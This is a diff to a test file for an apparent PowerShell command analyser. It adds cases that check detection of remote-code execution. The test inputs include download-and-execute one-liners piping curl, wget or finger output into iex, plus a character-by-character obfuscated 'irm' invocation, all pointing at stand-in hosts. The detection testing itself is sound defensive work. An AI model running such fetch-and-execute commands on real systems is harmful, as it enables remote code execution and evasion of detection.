@@ -80,12 +80,25 @@ describe("powershell", () => {
     [`-e ${Buffer.from("calc", "utf16le").toString("base64")}`, { code: ["calc"], decoded: ["calc"] }],
     ["-enc ???", { undecoded: ["???"] }],
     ['"iwr http://h/x | iex"', { remoteCode: ["http://h/x"] }],
+    ['"curl.exe -s http://h/x | iex"', { remoteCode: ["http://h/x"] }],
+    ["\"iex (cmd /c 'curl -s http://h/x')\"", { remoteCode: ["http://h/x"] }],
+    ['"$t = wget.exe -qO- http://h/x; iex $t"', { remoteCode: ["http://h/x"] }],
+    ['"finger k@h.example | iex"', { remoteCode: ["k@h.example"] }],
+    ["\"foreach ($c in 'i','r','m') { $n += $c }; & $n http://h/x | iex\"", { remoteCode: ["http://h/x"] }],
     ['"iwr http://h/x -OutFile y"', { remoteFile: ["http://h/x"] }],
     ["[Reflection.Assembly]::LoadFile('C:\\x.dll')", { assembly: ["C:\\x.dll"] }],
     ["-", { input: [""] }],
   ])("%s", (line, expected) => {
     expect(read("powershell", line)).toMatchObject(expected);
   });
+});
+
+it.each([
+  '"curl.exe -o a.txt http://h/x; iex (gc b.ps1 -raw)"',
+  '"oh-my-posh init pwsh --config https://h/t.json | iex"',
+  '"curl.exe -s http://h/x | ConvertFrom-Json"',
+])("carries out nothing of another machine: %s", (line) => {
+  expect(read("powershell", line)).not.toHaveProperty("remoteCode");
 });
 
 describe("sequence", () => {
